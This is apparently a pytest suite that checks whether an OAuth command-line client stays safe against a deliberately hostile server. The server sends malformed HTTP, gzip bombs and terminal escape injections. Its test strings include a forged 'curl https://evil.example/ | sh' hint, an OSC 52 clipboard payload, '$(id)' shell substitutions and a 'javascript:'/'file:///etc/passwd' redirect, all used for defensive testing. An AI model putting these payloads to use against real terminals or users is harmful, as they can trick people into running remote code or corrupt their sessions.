"""A hostile server: whatever it sends, tokens are kept, nothing of it moves a terminal, and it ends in time."""

from __future__ import annotations

import asyncio
import datetime
import gzip
import io
import json
import logging
import os
import re
import ssl
import sys
import time
import zlib
from collections.abc import Iterator
from contextlib import AsyncExitStack, ExitStack, redirect_stderr, redirect_stdout
from pathlib import Path
from typing import Any
from urllib.parse import quote, urljoin

import pytest

from loopback_auth import renewal
from loopback_auth.cli import commands
from loopback_auth.endpoints.resource import company, get
from loopback_auth.endpoints.token_endpoint import TokenEndpoint
from loopback_auth.errors import OutcomeUnknown, ResourceError, TokenEndpointUnreachable
from loopback_auth.oauth.token import TokenRequest, parse_token_response
from loopback_auth.redirect.certificate import own_leaf, server_context
from loopback_auth.redirect.pages import STATUS, render
from loopback_auth.secret import Secret

from ..ended import Ended
from ..login.program import Program
from ..login.visits import few_at_a_time
from ..login.wire import arrive, ask, to_redirect
from ..terminal.ptys import Pty
from .hostile_server import (
    ACCESS,
    BEFORE,
    REFRESH,
    TOKENS,
    HostileServer,
    Reply,
    answer,
    answering,
    apart,
    chunked,
    costs,
    dripping,
    endless,
    headed,
    hostile,
    registration_at,
    reset,
    stored_account,
    tokens,
)

LENGTH = b"Content-Length: %d" % len(TOKENS)
TEXTS = {
    "clear screen": "\x1b[2J\x1b[1;1H\x1b[31m",
    "title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "clipboard": "\x1b]52;c;Y3VybCBldmls\x07",
    "link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "device control": "\x1bP+q544e\x1b\\\x1b_G\x1b\\\x1b^x\x1b\\\x1bX\x1b\\",
    "8 bit controls": "\x9b31m\x9d0;owned\x9c\x90\x84\x85\x8d",
    "forged line": "x\r\nloopback-auth: hint: curl https://evil.example/ | sh\n",
    "written over": "\x08" * 60 + "\r\x0b\x0c\x7f\x1b[1A",
    "NUL": "a\0b",
    "right to left": "\u202egnirts\u2066\u2069\u200f",
    "not seen": "\ufeff\u200b\u00ad\u2060\U000e0041",
    "line ends": "\u2028\u2029\x1c\x1d\x1e",
    "half a character": "\ud800 \udfff",
    "stacked": "e" + "\u0301" * 300,
    "long": "x" * 9000,
    "for a shell": "$(id) `id` %s %n {0} {error.args} \\x1b \\",
}
"""What a server may write wherever it may write text."""


# -- the program in this process, for hundreds of calls


class Here:
    """The program in this process, with a home of its own and one stored account."""

    def __init__(self, folder: Path, server: HostileServer) -> None:
        self.home = folder / "home"
        self.server = server
        self.store = stored_account(self.home, server.base)

    def again(self, **changes: Any) -> None:
        """Store the account as it was at first, and forget what went wrong."""
        for path in (self.home / "accounts" / "default").iterdir():
            path.unlink()
        self.store = stored_account(self.home, self.server.base, **changes)

    def run(self, *arguments: str) -> tuple[Ended, bytes]:
        """Run a command; return how it ended, and its stdout byte by byte."""
        out, err = (io.TextIOWrapper(io.BytesIO(), "utf-8", "surrogateescape", newline="") for _ in range(2))
        with redirect_stdout(out), redirect_stderr(err):
            status = commands.run(list(arguments))
            out.flush()
            err.flush()
        printed, said = (stream.buffer.getvalue() for stream in (out, err))
        return Ended(status, printed.decode("latin-1"), said.decode("latin-1"), arguments), printed

    def stored(self) -> tuple[str, str | None]:
        account = self.store.load("default")
        assert account is not None
        refresh_token = account.tokens.refresh_token
        return account.tokens.access_token.reveal(), refresh_token.reveal() if refresh_token else None

    def looks_well(self, what: str) -> None:
        """Whatever was stored, `status` shows it, harmlessly, in words and as JSON."""
        for arguments in (["status"], ["status", "default"], ["status", "--json"]):
            ended, _ = self.run(*arguments)
            assert ended.status == 0, (what, ended)
            harmless(ended, what)
        json.loads(ended.stdout, object_hook=_calm)


def _calm(members: dict[str, Any]) -> dict[str, Any]:
    """Hold the texts in an object of JSON to what a program may print as it is."""
    for text in members.values():
        assert not isinstance(text, str) or (text.isascii() and text.isprintable()), members
    return members


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> Iterator[Here]:
    """Nothing is waited for: a refresh token in doubt is sent once more at once, and no disk is written to the end."""
    for name in ("HTTPS_PROXY", "https_proxy", "LOOPBACK_AUTH_ACCOUNT", "LOOPBACK_AUTH_STORE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("LOOPBACK_AUTH_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("COLUMNS", "1000")
    monkeypatch.setattr(os, "fsync", lambda _descriptor: None)
    monkeypatch.setattr(renewal, "RESEND_AFTER", 0.0)
    monkeypatch.setattr(renewal, "CONNECT_PAUSES", ())
    monkeypatch.setattr(renewal, "RETRY_AFTER_PATIENCE", 0.0)
    with hostile() as server:
        yield Here(tmp_path, server)
    assert [record for record in caplog.records if record.levelno >= logging.WARNING] == []


LINES = re.compile(
    r"(loopback-auth: (error|warning|hint): |Account default: |The last refresh of account default failed"
    r"|Logging in at |  \d\. |Waiting for the redirect |Logged in|Next: curl ).*"
)


def harmless(ended: Ended, what: str, *, stdout: bool = True) -> None:
    """Hold all that was said to printable ASCII, to lines of ours, and to a length that a person reads."""
    said = ended.stderr + (ended.stdout if stdout else "")
    assert all(letter == "\n" or " " <= letter <= "~" for letter in said), (what, ended)
    assert "Traceback" not in said, (what, ended)
    assert "unexpected" not in said, (what, ended)
    assert "s3kr1t" not in said, (what, ended.arguments)
    for line in ended.stderr.splitlines():
        assert LINES.fullmatch(line), (what, line)
        assert len(line) < 700, (what, line)


# -- a yes, however odd


def _with_headers(*headers: bytes | str) -> bytes:
    return answer(TOKENS, "200 OK", *headers)


YES: dict[str, dict[str, Reply]] = {
    "headers": {
        "300 of them": _with_headers(*[f"X-{number}: y" for number in range(300)]),
        "a cookie of 20 KB": _with_headers("Set-Cookie: a=" + "b" * 20_000),
        "a body that comes after them": apart(
            answer(b"", "200 OK", "Set-Cookie: a=" + "b" * 20_000, length=len(TOKENS)), TOKENS
        ),
        "40 cookies": _with_headers(*[f"Set-Cookie: a{number}={'b' * 4000}" for number in range(40)]),
        "cookies that are none": _with_headers("Set-Cookie: \x01\x1b[2J=\x07;;;=", "Set-Cookie: ", "Set-Cookie: =;"),
        "a cookie's dates": _with_headers("Set-Cookie: a=b; Expires=\x1b]0;x\x07; Max-Age=-99999999999999999999999"),
        "a NUL": _with_headers("X: a\0b"),
        "escape sequences": _with_headers("X: \x1b[2J\x1b]0;x\x07", "WWW-Authenticate: \x1b[31m", "Location: \x1b["),
        "Latin-1": _with_headers(b"X: \xff\xfe\x9b"),
        "a folded line": headed(b"HTTP/1.1 200 OK\nX: a\n b\n" + LENGTH),
        "no colon": headed(b"HTTP/1.1 200 OK\nnonsense\n" + LENGTH),
        "no name": headed(b"HTTP/1.1 200 OK\n: a\n" + LENGTH),
        "a space in a name": headed(b"HTTP/1.1 200 OK\nX Y: a\n" + LENGTH),
        "a space behind a name": headed(b"HTTP/1.1 200 OK\nX : a\n" + LENGTH),
        "a name that is none": headed(b"HTTP/1.1 200 OK\nX\x1b[: a\n" + LENGTH),
        "lines that end in LF": b"HTTP/1.1 200 OK\n" + LENGTH + b"\n\n" + TOKENS,
        "a Location": _with_headers("Location: http://[::1/\x1b", "Refresh: 0; url=https://evil.example/"),
        "Retry-After": _with_headers("Retry-After: " + "9" * 7000),
        "an upgrade": _with_headers("Upgrade: websocket", "Connection: upgrade"),
        "a type that lies": _with_headers("Content-Type: text/html; charset=utf-7"),
        "a type that is none": _with_headers("Content-Type: ;;;=\x1b[2J"),
        "five types": _with_headers(*["Content-Type: application/json"] * 5),
    },
    "status line": {
        "an escape sequence": headed(b"HTTP/1.1 200 \x1b]0;owned\x07\n" + LENGTH),
        "20 KB": headed(b"HTTP/1.1 200 " + b"x" * 20_000 + b"\n" + LENGTH),
        "Latin-1": headed(b"HTTP/1.1 200 \xe9\xff\n" + LENGTH),
        "a NUL": headed(b"HTTP/1.1 200 a\0b\n" + LENGTH),
        "no phrase": headed(b"HTTP/1.1 200\n" + LENGTH),
        "HTTP/1.0": headed(b"HTTP/1.0 200 OK\n" + LENGTH),
        "HTTP/1.9": headed(b"HTTP/1.9 200 OK\n" + LENGTH),
        "HTTP/2.0": headed(b"HTTP/2.0 200 OK\n" + LENGTH),
        "small letters": headed(b"http/1.1 200 ok\n" + LENGTH),
        "an empty line before it": b"\r\n\r\n" + _with_headers(),
        "201": answer(TOKENS, "201 Created"),
        "204": answer(TOKENS, "204 No Content"),
        "205": answer(TOKENS, "205 Reset Content"),
        "206": answer(TOKENS, "206 Partial Content", "Content-Range: bytes 0-1/2"),
        "299": answer(TOKENS, "299 \x1b[2J"),
        "600": answer(TOKENS, "600 \x1b[2J"),
        "500": answer(TOKENS, "500 \x1b[2J"),
        "100 before it": b"HTTP/1.1 100 Continue\r\n\r\n" * 200 + _with_headers(),
        "103 before it": b"HTTP/1.1 103 Early Hints\r\nLink: \x1b[2J\r\n\r\n" + _with_headers(),
        "103 before a broken one": b"HTTP/1.1 103 Early Hints\r\nLink: a\r\n\r\n" + _with_headers("no colon"),
    },
    "length": {
        "none": headed(b"HTTP/1.1 200 OK"),
        "too short": answer(TOKENS, length=10),
        "0": answer(TOKENS, length=0),
        "too long": answer(TOKENS, length=1000),
        "huge": answer(TOKENS, length=10**30),
        "negative": answer(TOKENS, length=-5),
        "a plus": answer(TOKENS, length=f"+{len(TOKENS)}"),
        "a word": answer(TOKENS, length="\x1b[2J"),
        "twice": _with_headers(LENGTH),
        "twice in one": answer(TOKENS, length=f"{len(TOKENS)}, {len(TOKENS)}"),
        "two of them": _with_headers("Content-Length: 5"),
        "a length and chunks": chunked(TOKENS, head=b"Content-Length: 5\r\n"),
        "more behind it": _with_headers() + b"x" * 100_000,
        "another answer behind it": _with_headers() + answer(b'{"error": "invalid_grant"}', "400 Bad"),
        "broken off behind it": reset(_with_headers()),
        "broken off before its end": reset(answer(TOKENS, length=1000)),
    },
    "chunks": {
        "of one byte": chunked(*[TOKENS[at : at + 1] for at in range(len(TOKENS))]),
        "no end": chunked(TOKENS, end=b""),
        "a size that is none": chunked(TOKENS, end=b"zz\r\n\r\n"),
        "a size too large": chunked(end=b"ffffffffffffffffff\r\n" + TOKENS),
        "a size that is almost too large": chunked(end=b"7fffffffffffffff\r\n" + TOKENS),
        "a negative size": chunked(end=b"-1\r\n" + TOKENS),
        "an extension": chunked(end=b"%x;a=\x1b[2J%s\r\n%s\r\n0\r\n\r\n" % (len(TOKENS), b"x" * 20_000, TOKENS)),
        "trailers": chunked(TOKENS, end=b"0\r\nX: \x1b[2J\r\nSet-Cookie: a=b\r\n\r\n"),
        "5000 trailers": chunked(TOKENS, end=b"0\r\n" + b"X: y\r\n" * 5000 + b"\r\n"),
        "trailers that are none": chunked(TOKENS, end=b"0\r\n\x1b\0\r\n\r\n"),
        "another coding": headed(b"HTTP/1.1 200 OK\nTransfer-Encoding: wibble"),
        "two codings": chunked(gzip.compress(TOKENS)).replace(b": chunked", b": gzip, chunked"),
    },
    "encoding": {
        "gzip that nobody asked for": answer(gzip.compress(TOKENS), "200 OK", "Content-Encoding: gzip"),
        "gzip that is not said": answer(gzip.compress(TOKENS)),
        "a gzip bomb": answer(gzip.compress(TOKENS[:-1] + b', "x": "' + b"x" * 20_000_000)),
        "br, and it is not": _with_headers("Content-Encoding: br"),
        "gzip, and it is not": _with_headers("Content-Encoding: gzip"),
        "a coding of control characters": _with_headers("Content-Encoding: \x1b[2J"),
        "BOM": answer(b"\xef\xbb\xbf" + TOKENS),
        "UTF-16": answer(TOKENS.decode().encode("utf-16")),
        "UTF-16 without a mark": answer(TOKENS.decode().encode("utf-16-be")),
        "UTF-32": answer(TOKENS.decode().encode("utf-32")),
        "a byte of Latin-1": answer(TOKENS[:-1] + b', "name": "Caf\xe9"}'),
        "raw control characters": answer(TOKENS[:-1] + b', "name": "\x1b[2J\x07"}'),
        "half a character": answer(TOKENS[:-1] + b', "name": "\\ud800"}'),
    },
    "values": {
        "1e999999": answer(TOKENS.replace(b"3600", b"1e999999")),
        "-1e999999": answer(TOKENS.replace(b"3600", b"-1e999999")),
        "NaN": answer(TOKENS.replace(b"3600", b"NaN")),
        "a number of 50 KB": answer(TOKENS.replace(b"3600", b"9" * 50_000)),
        "a text of 50 KB of digits": answer(tokens(expires_in="9" * 50_000)),
        "a nested lifetime": answer(TOKENS.replace(b"3600", b"[" * 20_000)),
        "another nested thing": answer(TOKENS[:-1] + b', "x": ' + b'{"a":' * 9_000),
        "a lifetime of digits that are none": answer(tokens(expires_in="\u00b2\u0663")),
        "true": answer(tokens(expires_in=True)),
        "refresh token twice": answer(TOKENS.replace(b'"refresh_token"', b'"refresh_token": "x", "refresh_token"')),
        "more behind it": answer(TOKENS + b"<script>\x1b[2J"),
        "two of them": answer(TOKENS + TOKENS),
        "an error beside it": answer(tokens(error="invalid_grant", error_description=TEXTS["title"])),
        "odd types": answer(tokens(scope=[1], token_type={"a": 1}, expires_in=[3600], error=7)),
        "members of every name": answer(tokens(**dict.fromkeys(("", "__class__", "self", "\x1b[2J", "\0"), "x"))),
        "a token that broke off behind it": answer(json.dumps({"refresh_token": REFRESH}).encode()[:-1] + b', "acc'),
    },
}  # fmt: skip


@pytest.mark.parametrize("kind", list(YES))
def test_a_yes_is_never_thrown_away(here: Here, kind: str) -> None:
    """An answer that holds a new refresh token is stored, whatever else is wrong with it, and it is asked for once."""
    for name, reply in YES[kind].items():
        here.again()
        here.server.token = reply
        here.server.asked.clear()
        ended, _ = here.run("refresh", "--force")
        refresh_token = here.stored()[1]
        assert (refresh_token, ended.status) == (REFRESH, 0) or name.startswith("a token that"), (name, ended)
        assert refresh_token == REFRESH, (name, ended)
        harmless(ended, name)
        here.looks_well(name)
        assert len(here.server.asked) == 1 or name.startswith("a token that"), name


@pytest.mark.parametrize("what", list(TEXTS))
def test_texts_in_a_yes(here: Here, what: str) -> None:
    """Tokens, scope and type that are made of anything are stored as they came and shown by nothing."""
    text = TEXTS[what]
    fields = {"scope": text, "token_type": "bearer", "error": text, "error_description": text, "error_uri": text}
    odd_tokens = {"access_token": f"s3kr1t-{text}", "refresh_token": f"s3kr1t-{text}r"}
    here.server.token = answer(tokens(**fields, **odd_tokens))
    ended, _ = here.run("refresh", "--force")
    assert ended.status == 0, ended
    harmless(ended, what)
    assert here.stored() == (f"s3kr1t-{text}", f"s3kr1t-{text}r")
    here.looks_well(what)
    token, printed = here.run("token")
    if text.isascii() and text.isprintable():
        assert (token.status, printed) == (0, f"s3kr1t-{text}\n".encode())
    else:
        assert (token.status, printed) == (1, b"")
        assert "never printed" in token.errors[0]
    harmless(token, what, stdout=False)
    asked = len(here.server.asked)
    here.server.api = answer(b"{}")
    got, _ = here.run("api", "company")
    assert got.status in (0, 1)
    harmless(got, what)
    assert not [one for one in here.server.asked[asked:] if one.count(b"\r\n") > 7], "a header was smuggled in"
    here.server.token = answer(tokens(token_type=f"x{text}"))
    for arguments, status in ((["refresh", "--force"], 0), (["token"], 3)):
        ended, printed = here.run(*arguments)
        assert (ended.status, printed) == (status, b""), (what, ended)
        harmless(ended, what)
    assert here.stored()[1] == REFRESH


# -- a no, and what is neither


def _error(status: str, error: object, *headers: bytes | str, **also: object) -> bytes:
    return answer(json.dumps({"error": error, **also}).encode(), status, *headers)


NO: dict[str, tuple[Reply, int]] = {
    "null": (answer(b"null"), 10),
    "a list": (answer(b'["s3kr1t-next-refresh"]'), 10),
    "a number": (answer(b"1e999999"), 10),
    "a number of 60 KB": (answer(b"9" * 60_000), 10),
    "NaN": (answer(b"NaN"), 10),
    "nesting": (answer(b"[" * 60_000), 10),
    "nesting of objects": (answer(b'{"a":' * 12_000), 10),
    "empty": (answer(b""), 10),
    "a type that is shown": (answer(b"<html>", "200 OK", "Content-Type: \x1b[2J\x9b\xff"), 10),
    "a broken body": (answer(b'{"access_token": "\xff\xfe\x1b'), 10),
    "an empty token": (answer(b'{"access_token": "", "refresh_token": ""}'), 10),
    "tokens that are no text": (answer(b'{"access_token": 1, "refresh_token": ["s3kr1t-"]}'), 10),
    "HTTP/0.9": (TOKENS, 10),
    "nothing": (b"", 10),
    "NUL": (b"\0" * 1000, 10),
    "TLS": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 10),
    "SSH": (b"SSH-2.0-OpenSSH_9.2\r\n", 10),
    "another status line": (headed(b"ICY 200 OK\n" + LENGTH), 10),
    "status 2000": (headed(b"HTTP/1.1 2000 OK\n" + LENGTH), 10),
    "status -200": (headed(b"HTTP/1.1 -200 OK\n" + LENGTH), 10),
    "status 2e2": (headed(b"HTTP/1.1 2e2 OK\n" + LENGTH), 10),
    "status in other digits": (headed("HTTP/1.1 \u0662\u0660\u0660 OK\n".encode() + LENGTH), 10),
    "only a 100": (b"HTTP/1.1 100 Continue\r\n\r\n", 10),
    "only a head": (headed(b"HTTP/1.1 200 OK\nX Y: a", b""), 10),
    "a broken head": (b"HTTP/1.1 200 OK\r\nX Y: a\r\n", 10),
    "a broken 400 with tokens": (headed(b"HTTP/1.1 400 Bad\nno colon\n" + LENGTH), 10),
    "a gzip bomb": (answer(gzip.compress(b"[" * 20_000_000)), 10),
    "deflate": (answer(zlib.compress(b"x" * 1000), "200 OK", "Content-Encoding: deflate"), 10),
    "reset": (reset(b""), 10),
    "reset in the head": (reset(b"HTTP/1.1 200 OK\r\nContent-Le"), 10),
    "600": (_error("600 \x1b[2J", "x"), 10),
    "999": (_error("999 \x1b[2J", "x"), 10),
    "500": (_error("500 \x1b[2J", "\x1b[2J"), 10),
    "503": (_error("503 Busy", "x"), 10),
    "503, later": (_error("503 \x9b", "x", "Retry-After: 600"), 9),
    "302": (_error("302 Found", "x", "Location: http://[\x1b[2J", "Set-Cookie: \x1b=;;"), 3),
    "307 to a script": (_error("307 Found", "x", "Location: javascript:alert(1)\r\nLocation: file:///etc/passwd"), 3),
    "401": (_error("401 No", "x", "WWW-Authenticate: \x1b]0;x\x07" + "y" * 8000), 3),
    "400 of another form": (answer(b"error=invalid_grant", "400 Bad"), 3),
    "400 with an error that is no text": (_error("400 Bad", ["invalid_grant"], error_description={"a": 1}), 3),
    "400 without a body": (answer(b"", "400 Bad"), 3),
    "400 nested": (answer(b'{"error":' * 9_000, "400 Bad"), 3),
    "400 in UTF-16": (answer('{"error": "invalid_grant"}'.encode("utf-16"), "400 Bad"), 4),
    "400 with a BOM": (answer(b'\xef\xbb\xbf{"error": "invalid_grant"}', "400 Bad"), 4),
    "400 twice": (answer(b'{"error": "x", "error": "invalid_grant"}', "400 Bad"), 4),
    **{
        f"429, Retry-After {number}": (_error("429 Slow", "x", b"Retry-After: " + later), 9)
        for number, later in enumerate(
            (
                b"9" * 7000, b"-1", b"-99999999999999999999", b"1e999", b"NaN", b"0x10", b"\x1b[2J", b"\xff\xfe",
                b"\xc2\xb2",
                b"Fri, 31 Dec 9999 23:59:59 GMT", b"Fri, 31 Dec 1999 23:59:59 GMT", b"Mon, 1 Jan 0001 00:00:00 -0000",
                b"Wed, 99 Foo 2015 99:99:99 +9999", b"Fri, 31 Dec 99999999 23:59:59 GMT", b", , , :::", b"",
            )
        )
    },
}  # fmt: skip


def test_a_no_costs_nothing(here: Here) -> None:
    """What is no yes ends with its documented status in words of ours, and what was stored stays."""
    for name, (reply, status) in NO.items():
        here.again()
        here.server.token = reply
        here.server.asked.clear()
        ended, printed = here.run("refresh", "--force")
        assert (ended.status, printed, len(ended.errors)) == (status, b"", 1), (name, ended)
        harmless(ended, name)
        assert len(here.server.asked) <= 2, name
        assert here.stored()[1] == BEFORE, name
        here.looks_well(name)


@pytest.mark.parametrize("what", list(TEXTS))
def test_texts_in_a_no(here: Here, what: str) -> None:
    """Whatever `error` and its description hold, the line that says so is ours, and so is what `status` makes of it."""
    text = TEXTS[what]
    said = {"error_description": text, "error_uri": text, text: text}
    for status, error in (("400 Bad", text), ("401 No", "invalid_client"), ("400 Bad", "invalid_grant")):
        here.again()
        here.server.token = _error(status, error, **said)
        for arguments in (["refresh", "--force"], ["token"]):
            ended, printed = here.run(*arguments)
            assert (ended.status, printed) == (4 if error == "invalid_grant" else 3, b""), (what, ended)
            harmless(ended, what)
        here.looks_well(what)


# -- the API


def test_companies(here: Here) -> None:
    """A company's id and name may be anything: what is stored of them is small, and shown harmlessly."""
    bodies = [json.dumps([{"id": text, "name": text}]).encode() for text in TEXTS.values()]
    bodies += [json.dumps([{"id": {text: [text]}, "name": [text]}]).encode() for text in TEXTS.values()]
    bodies += [
        b'[{"id": 1, "name": "' + b"x" * 900_000 + b'"}]',
        b'[{"id": "' + b"x" * 900_000 + b'"}]',
        b'[{"id": ' + b"9" * 900_000 + b"}]",
        b'[{"id": ' + b"9" * 4300 + b"}]",
        b'[{"id": 1e999999, "name": NaN}]',
        b'[{"id": ' + b"[" * 900 + b"]" * 900 + b"}]",
        *(b'[{"id": ' + b"[" * depth + b"]" * depth + b"}]" for depth in range(930, 1000, 3)),
        b"[" * 900_000,
        b'[{"id": 1, "id": null, "name": "a", "name": null}]',
        b"\xef\xbb\xbf[]",
        b'[{"id": 1, "name": "\xff"}]',
        b"null",
        b"{}",
    ]

    async def ask_whose(body: bytes) -> None:
        async with answering(answer(body)) as server:
            found = await company(registration_at(server.base), Secret(ACCESS))
            assert found is not None
            here.again(company={"id": found.id, "name": found.name})

    known = 0
    for body in bodies:
        try:
            asyncio.run(ask_whose(body))
        except ResourceError as error:
            assert str(error) in ("the API did not say which company this is", "the answer is larger than 1 MiB")
            continue
        known += 1
        assert (here.home / "accounts" / "default" / "tokens").stat().st_size < 20_000, body[:80]
        here.looks_well(repr(body[:80]))
    assert known >= len(TEXTS)


API: dict[str, tuple[Reply, int]] = {
    "bytes": (answer(bytes(range(256)), "200 OK", "Content-Type: \x1b[2J"), 0),
    "a broken length": (answer(b"{}", length=10), 1),
    "two lengths": (answer(b"{}", "200 OK", "Content-Length: 7"), 1),
    "no HTTP": (b"\x1b[2J\r\n\r\n", 1),
    "no gzip": (answer(b"\x1b[2J" * 9, "200 OK", "Content-Encoding: gzip"), 1),
    "no deflate": (answer(b"\x1b[2J" * 9, "200 OK", "Content-Encoding: deflate"), 1),
    "302": (answer(b"\x1b[2J", "302 Found", "Location: http://[\x1b[2J"), 1),
    "status 099": (answer(b"\x1b[2J", "099 \x1b[2J"), 1),
    "400": (answer("\x1b]0;owned\x07\u202e\n\nloopback-auth: error: forged".encode(), "400 \x1b[2J"), 1),
    "a no of 20 MB": (answer(b"ab " * 7_000_000, "404 No"), 1),
    "a page": (answer(b"<title>\x1b[2J", "404 No", "Content-Type: text/html; \x1b[2J"), 1),
    "429": (answer(b"\x9b\xff", "429 Slow", b"Retry-After: \x1b[2J\x9b" + b"9" * 5000), 9),
    "503": (answer(b"", "503 \x1b[2J", "Retry-After: -1"), 9),
    "401": (answer(b"\x1b[2J", "401 No", "WWW-Authenticate: Bearer error=\x1b[2J"), 4),
}


def test_answers_of_the_api(here: Here) -> None:
    """In a pipe a 2xx is untouched; all else ends with its status, in one harmless line, and stdout stays empty."""
    here.server.token = answer(TOKENS)
    for name, (reply, status) in API.items():
        here.again(age=0.0)
        here.server.api = reply
        ended, printed = here.run("api", "company")
        assert (ended.status, printed) == (status, bytes(range(256)) if name == "bytes" else b""), (name, ended.stderr)
        harmless(ended, name, stdout=False)


def test_the_api_on_a_terminal(tmp_path: Path) -> None:
    """On a terminal nothing of an answer moves the cursor or is left out, and JSON does not grow without end."""
    odd = "".join(TEXTS[what] for what in TEXTS if what not in ("half a character", "long"))
    nested = b"[" * 400 + b"1," * 60_000 + b"1" + b"]" * 400  # in lines it would be fifty megabytes
    bodies = {
        "text": odd.encode() + bytes(range(256)) * 9 + "ü".encode() * 40_000,
        "JSON": json.dumps({odd: [odd, 1e999, None]}, ensure_ascii=False).encode(),
        "nested": nested,
    }
    environment = Program(tmp_path).environment | {"TERM": "xterm-256color"}
    with hostile() as server:
        for what, body in bodies.items():
            stored_account(tmp_path / "home", server.base, age=0.0)
            server.api = answer(body)
            terminal = Pty([sys.executable, "-m", "loopback_auth", "api", "company"], environment, tmp_path)
            try:
                assert terminal.end() == 0, terminal.text
                said = terminal.said.replace("\r\n", "\n")
            finally:
                terminal.close()
            assert all(letter == "\n" or " " <= letter <= "~" for letter in said), what
            assert "..." not in said, what
            if what == "text":
                assert said.replace("\n", "").count(r"\xc3\xbc") == 40_000
            elif what == "JSON":
                assert json.loads(said) == json.loads(body)
            else:
                assert said.strip() == nested.decode()


# -- the real command


REAL: list[tuple[str, Reply, int, str]] = [
    *(("refresh --force", YES[kind][name], 0, "") for kind, name in (
        ("headers", "a cookie of 20 KB"), ("headers", "escape sequences"),
        ("status line", "an escape sequence"), ("status line", "100 before it"), ("length", "two of them"),
        ("length", "more behind it"), ("length", "broken off before its end"), ("chunks", "a size that is none"),
        ("encoding", "a gzip bomb"), ("values", "a nested lifetime"),
    )),
    *(("refresh --force", NO[name][0], NO[name][1], "") for name in (
        "a type that is shown", "nesting", "HTTP/0.9", "TLS", "reset in the head", "302", "429, Retry-After 6",
    )),
    ("token", _error("400 \x1b[2J", "".join(TEXTS.values())), 3, ""),
    ("token", _error("400 \x1b[2J", "invalid_grant", error_description="".join(TEXTS.values())), 4, ""),
    ("token", answer(tokens(access_token="s3kr1t-\x1b[2J\r\n\0")), 1, ""),
    ("token", answer(tokens(scope=TEXTS["title"], token_type=TEXTS["title"])), 3, ""),
    ("token", endless(b"", b"HTTP/1.1 100 Continue\r\n\r\n"), 10, ""),
    ("api company", answer(b"\x1b[2J\x00\x07"), 0, "\x1b[2J\x00\x07"),
    ("api company", API["400"][0], 1, ""),
    ("api company", API["429"][0], 9, ""),
]  # fmt: skip


async def test_the_real_command(program: Program) -> None:
    """As processes of their own: each ends with its status, says nothing but ours, and `status` is as calm after it."""

    async def one(number: int, command: str, reply: Reply, status: int, printed: str) -> None:
        home = program.folder / f"home-{number}"
        environment = {"LOOPBACK_AUTH_HOME": str(home)}
        async with answering(reply) as server:
            stored_account(home, server.base, age=0.0 if command.startswith("api") else 7200.0)
            ended = await program.run(*command.split(), environment=environment)
        assert (ended.status, ended.stdout) == (status, printed), (number, ended)
        harmless(ended, str(number), stdout=False)
        if number % 5 == 0:
            harmless(await program.run("status", "--json", environment=environment), str(number))

    await few_at_a_time([one(number, *row) for number, row in enumerate(REAL)], 6)


# -- the browser's side: login


async def _log_in(program: Program, name: str, *arguments: str) -> tuple[Ended, bytes]:
    async with program.start("login", name, *arguments) as running:
        page = await arrive(await to_redirect(await running.start_url()))
        return await running.end(), page.body


PAGES = {render(page)[0] for page in STATUS}


@pytest.fixture
async def program(tmp_path: Path) -> Any:
    """The real command."""
    program = Program(tmp_path)
    yield program
    await program.settled()
    assert program.complaints() == []


async def test_logins(program: Program) -> None:
    """Real logins at servers whose tokens, errors and companies are hostile: tokens are kept, all else is harmless."""
    everything = "".join(text for what, text in TEXTS.items() if what not in ("half a character", "long"))
    yes = answer(tokens(access_token=f"s3kr1t-{everything}", scope=everything, error=everything))
    no = _error("400 \x1b[2J", everything, error_description=everything)
    companies = json.dumps([{"id": everything, "name": everything}]).encode()
    program.home.mkdir(mode=0o700)
    cases: dict[str, tuple[Reply, Reply, int]] = {
        "tokens": (yes, answer(b"[]"), 1),
        "refused": (no, b"", 3),
        "huge": (answer(TOKENS), answer(b'[{"id": 1, "name": "' + b"x" * 3_000_000 + b'"}]'), 0),
        "objects": (answer(TOKENS), answer(b"[" + b"{}," * 12_000_000 + b"{}]"), 0),
        "company": (answer(TOKENS), answer(companies[:2] + companies[2:]), 0),
    }
    async with AsyncExitStack() as stack:
        config = []
        for name, (token, api, _) in cases.items():
            server = await stack.enter_async_context(answering(token))
            server.api, server.redirects = api, [b"code=s3kr1t-code"]
            config.append(
                f'[servers.{name}]\nauthorization_endpoint = "{server.base}authorize"\n'
                f'token_endpoint = "{server.base}token"\napi_base = "{server.base}api/"\ncompany_path = "company"\n'
            )
        (program.home / "config.toml").write_text("\n".join(config))
        (program.home / "config.toml").chmod(0o600)

        async def one(name: str) -> None:
            flags = ["--print-token"] if name == "tokens" else ["-v"]
            ended, page = await _log_in(program, name, "--server", name, "--client-id", "c", "--timeout", "30s", *flags)
            assert ended.status == cases[name][2], (name, ended)
            assert page in PAGES, name
            assert ended.stdout == "", name
            assert all(letter == "\n" or " " <= letter <= "~" for letter in ended.stderr), (name, ended.stderr)
            if name != "refused":
                assert program.tokens(name).refresh_token == REFRESH
                status = await program.run("status", name, "--json")
                assert status.status == 0, status
                assert all(letter == "\n" or " " <= letter <= "~" for letter in status.stdout)

        await few_at_a_time([one(name) for name in cases], 3)


async def test_redirects(program: Program) -> None:
    """Errors that come by way of the browser end a login in words of ours, or do not end it; no page repeats them."""
    with hostile() as server:
        server.redirects = [b"code=s3kr1t-code"]
        async with program.start("login", *server.flags) as running:
            redirect = await to_redirect(await running.start_url())
            base = redirect.partition("code=")[0]
            for text in TEXTS.values():
                said = quote(text.encode(errors="surrogatepass")[:1500])
                queries = [
                    f"error={said}", f"error=access_denied&error_description={said}",
                    f"error=a&error={said}", f"error=a&error_uri={said}&code=b", f"code={said}&error=a&{said}={said}",
                    f"iss={said}&code={said}&error_uri={said}",
                ]  # fmt: skip
                printable = text.isascii() and text.isprintable()
                for query in queries[2:5] if printable else queries:
                    page = await ask(base + query)
                    if page.status == 303:
                        pytest.fail(f"{query} ended the login")
                    assert page.body in {*PAGES, b""}, query[:100]
            assert running.runs
            last = (
                f"error=server_error&error_description={quote(TEXTS['for a shell'] + 'x' * 5000)}&error_uri=javascript:"
            )
            sent_on = await ask(base + last)
            page = await ask(urljoin(redirect, sent_on.location))
            ended = await running.end()
    assert (ended.status, page.body in PAGES) == (9, True)
    harmless(ended, "redirects")
    assert len(ended.stderr.splitlines()) < 12
